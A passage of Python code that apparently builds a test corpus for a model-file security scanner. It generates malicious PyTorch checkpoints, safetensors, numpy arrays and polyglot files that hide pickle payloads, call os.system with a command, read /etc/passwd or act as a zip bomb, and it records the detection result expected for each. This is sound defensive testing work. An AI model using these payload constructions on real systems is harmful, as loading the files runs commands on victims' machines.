    attack("storage_middle.pth", "a pickle in the middle of a storage", "none", make(checkpoint(benign, extra=[Entry("archive/data/0", bytes(range(256)) * 4 + EVIL + bytes(range(256)))])), None, "dangerous", "hidden-pickle")
    attack("nested_zip.pth", "an archive in the archive", "modelscan: nested archives", make(checkpoint(benign, extra=[Entry("archive/data/0", make(checkpoint()))])), None)
    attack("nested_deflated.pth", "a deflated archive in a deflated archive", "modelscan: nested archives", make([Entry("a/inner.zip", make([Entry("b/inner.zip", make(checkpoint(method=8)), 8)]), 8), *checkpoint(benign, "a")]), None)
    attack("descriptor.pth", "a data descriptor that lies", "none", make(checkpoint(flags=8, local_crc=0, local_size=0, local_packed=0, descriptor=b"PK\x07\x08" + struct.pack("<III", 1, 2, 3))), "torch", "dangerous", "zip-outside")
    attack("no_directory.pth", "an archive without its directory", "none", make(checkpoint())[:-150], None)
    attack("method.pth", "a compression that is not looked into", "none", make(checkpoint(benign, extra=[Entry("archive/x", lzma.compress(EVIL + b"\0" * 500), local_method=14, central_method=14)])), None, "not-scannable", None)
    attack("encrypted.pth", "an encrypted entry", "none", make(checkpoint(benign, extra=[Entry("archive/x.bin", b"\x13\x37" * 20, flags=1, crc=7)])), None, "suspicious", "zip-flags")
    bomb = zlib.compress(zlib.compress(b"\0" * (400 << 20), 9), 9)
    attack("bomb.zip", "a zip bomb", "zip bomb, Fifield", make([Entry("bomb", bomb)]), None, "suspicious", "bomb")
    attack("script.pth", "a payload as TorchScript", "CVE-2025-32434", make(checkpoint(extra=[Entry("archive/constants.pkl", pickle.dumps((), 2))])), None)
    code = b"def forward(self, x):\n  _0 = torch.save(x, \"/tmp/x\")\n  return torch.from_file(\"/etc/passwd\")\n"
    attack("script_files.pt", "TorchScript code that reaches files", "TorchScript: from_file and save", make(checkpoint(benign, extra=[Entry("archive/constants.pkl", pickle.dumps((), 2)), Entry("archive/code/__torch__.py", code)])), None, "dangerous", "script-files")
    attack("package.pt", "a torch.package", "PyTorch documentation, torch.package", make([*checkpoint(benign), Entry("archive/.data/extern_modules", b"os\n"), Entry("archive/model.py", PYTHON.encode())]), None, "unknown", "script-files")


def containers():
    """Other containers, and pickles behind other names."""
    attack("seven_zip.pth", "7-Zip instead of zip", "ReversingLabs 2025, nullifAI", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x11" * 40, None, "not-scannable", None)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for path, content in [("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)), ("tensors", pickle.dumps(0, 2)), ("pickle", EVIL)]:
            info = tarfile.TarInfo(path)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    attack("tar.pt", "tar archive of PyTorch 0.1", "CVE-2025-32434", buffer.getvalue(), "torch", "dangerous", "tar-archive")
    attack("gzip.pkl", "gzip", "joblib, compressed", gzip.compress(EVIL, mtime=0), "gzip")
    attack("zlib.joblib", "zlib", "joblib, compressed", zlib.compress(EVIL), "zlib")
    attack("bzip2.joblib", "bzip2, which is not looked into", "joblib, compressed", bz2.compress(EVIL), None, "not-scannable", None)
    attack("xz.joblib", "xz, which is not looked into", "joblib, compressed", lzma.compress(EVIL + b"\0" * 500), None, "not-scannable", None)
    buffer = io.BytesIO()
    np.save(buffer, np.array([Reduced()], dtype=object), allow_pickle=True)
    attack("objects.npy", "an array of objects", "arXiv 2508.19774, loading paths", buffer.getvalue(), "numpy")
    buffer = io.BytesIO()
    np.savez(buffer, x=np.array([Reduced()], dtype=object))
    attack("objects.npz", "an array of objects in an archive", "arXiv 2508.19774, loading paths", buffer.getvalue(), "numpy")
    header = json.dumps({"x": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    tensors = struct.pack("<Q", len(header)) + header + b"\0" * 4
    attack("trailing.safetensors", "a pickle behind the tensors", "none", tensors + EVIL, None, "dangerous", "safetensors-header")
    gap = json.dumps({"x": {"dtype": "F32", "shape": [1], "data_offsets": [len(EVIL), len(EVIL) + 4]}}).encode()
    attack("gap.safetensors", "a pickle between the tensors", "none", struct.pack("<Q", len(gap)) + gap + EVIL + b"\0" * 4, None, "dangerous", "safetensors-header")
    attack("named.safetensors", "a pickle behind .safetensors", "CVE-2025-1889", EVIL, "pickle", "dangerous", "misnamed-pickle")
    attack("named.txt", "a pickle behind .txt", "CVE-2025-1889", EVIL, "pickle", "dangerous", "misnamed-pickle")
    attack("named.png", "a picture with a pickle behind it", "polyglots, Albertini", b"\x89PNG\r\n\x1a\n" + b"\0" * 60 + EVIL, None, "dangerous", "hidden-pickle")
    attack("protocol0.dat", "a pickle without PROTO behind any name", "none", b"cos\nsystem\n(S" + repr(COMMAND).encode() + b"\ntR.", "pickle")


def weights_only():
    """Allowed names used in ways that nobody means."""
    storage = lambda numel, key="0": items(text("storage"), name("torch", "FloatStorage"), text(key), text("cpu"), number(numel)) + BINPERSID
    rebuilt = lambda numel, size, key="0": call(name("torch._utils", "_rebuild_tensor_v2"), storage(numel, key), number(0), items(number(size)), items(number(1)), b"\x89", call(name("collections", "OrderedDict")))
    files = lambda body, **more: archive(checkpoint(PROTO2 + body + STOP, extra=[Entry("archive/data/0", b"\0" * 16)]), **more)
    odd = dict(loader=None, level="suspicious", rule="odd-arguments")
    attack("outside.pth", "a tensor that reaches outside of its storage", "PyTorch: checks in set_", files(rebuilt(4, 1000)), **odd)
    attack("short_storage.pth", "a storage shorter than it is said to be", "PyTorch: get_storage_from_record", files(rebuilt(1000, 1000)), None, "clean", None)
    attack("key.pth", "a storage key that leads out", "none", files(rebuilt(4, 4, "../0")), None, "unknown", "odd-persistent-id")
    attack("codec.pth", "_codecs.encode with another codec", "none", files(call(name("_codecs", "encode"), text("x"), text("zip"))), None, "unknown", "odd-arguments")
    attack("huge_bytes.pth", "a huge bytearray", "PyTorch: builtins.bytearray", files(call(name("builtins", "bytearray"), b"\x8a\x05\x00\x00\x00\x00\x10")), **odd)
    attack("patch_class.pth", "SETITEM on a class", "none", files(name("collections", "OrderedDict") + text("x") + number(1) + SETITEM), None, "dangerous", "patched-global")
    attack("call_dtype.pth", "a call of what cannot be called", "none", files(call(name("torch", "float32"), number(1))), **odd)
    attack("type_v2.pth", "_rebuild_from_type_v2 of another function", "PyTorch: subclasses of tensors", files(call(name("torch._tensor", "_rebuild_from_type_v2"), name("os", "system"), name("torch", "Tensor"), items(text(COMMAND)), NONE)), "torch")
    attack("mapped.pth", "__builtin__, which torch renames", "PyTorch: IMPORT_MAPPING", files(call(name("__builtin__", "set"), value([1]))), None, "clean", None)


def everything():
    """All attacks."""
    for part in (opcodes, functions, chains, names_hidden, broken, legacy, zips, containers, weights_only):
        part()
    return ATTACKS
